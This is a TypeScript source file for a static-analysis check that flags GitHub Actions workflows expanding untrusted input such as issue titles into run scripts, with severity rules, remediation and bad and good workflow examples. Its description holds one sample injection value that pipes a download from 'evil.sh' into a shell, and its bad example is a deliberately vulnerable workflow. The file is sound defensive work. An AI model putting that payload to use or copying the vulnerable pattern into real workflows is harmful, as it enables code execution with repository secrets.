import { PRIVILEGED_TRIGGERS } from '../github/contexts.ts';
import { analyzeFlow } from '../github/flow.ts';
import type { GitHubFile } from '../github/workflow.ts';
import { spanOfRange } from '../yaml-positions.ts';
import type { Check, CheckHit } from './types.ts';

export const ghaTemplateInjection: Check<GitHubFile> = {
  meta: {
    id: 'gha-template-injection',
    title: 'Untrusted input expanded into a script',
    severity: 'high',
    severityNote:
      'critical in workflows triggered by pull_request_target, workflow_run, issues, issue_comment or discussion events (secrets and a write token are available); low when the value is a string input of workflow_dispatch, workflow_call or a composite action.',
    target: 'github',
    description:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax in prose, not a template
      'GitHub substitutes `${{ … }}` expressions into a `run:` script (or an actions/github-script `script:`) before the shell or Node.js reads it. An issue title, pull request body, branch name or commit message is written by whoever opens it, so a value like `"; curl evil.sh | sh; "` becomes code running with the job\'s token and secrets. Values passed through `env:` and later read as `${{ env.X }}` are substituted the same way.',
    remediation:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax in prose, not a template
      'Pass the value through an environment variable and quote it in the shell: `env: { TITLE: ${{ github.event.issue.title }} }` then `run: echo "$TITLE"` (in github-script read `process.env.TITLE`).',
    references: [
      'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    ],
    examples: {
      bad: `name: Triage
on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue: \${{ github.event.issue.title }}"
`,
      good: `name: Triage
on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
          NUMBER: \${{ github.event.issue.number }}
        run: |
          echo "New issue #$NUMBER: $TITLE"
`,
    },
  },
  detect(gh) {
    const privileged = [...gh.triggers.keys()].some((t) => PRIVILEGED_TRIGGERS.has(t));
    return analyzeFlow(gh).injections.map((site): CheckHit => {
      const untrusted = site.taints.filter((t) => t.level === 'untrusted');
      const shown = (untrusted.length > 0 ? untrusted : site.taints).map((t) => t.source);
      const where = site.sink === 'run' ? 'a run script' : 'a github-script script';
      return {
        span: spanOfRange(gh.file, site.start, site.end),
        title: `${shown[0]} is expanded into ${where}`,
        detail: `${site.expression} carries ${shown.join(', ')}.`,
        severity: untrusted.length === 0 ? 'low' : privileged ? 'critical' : 'high',
        anchor: `${site.step.anchor}.${site.sink}`,
        snippet: site.expression.replace(/\s+/g, ' '),
      };
    });
  },
};
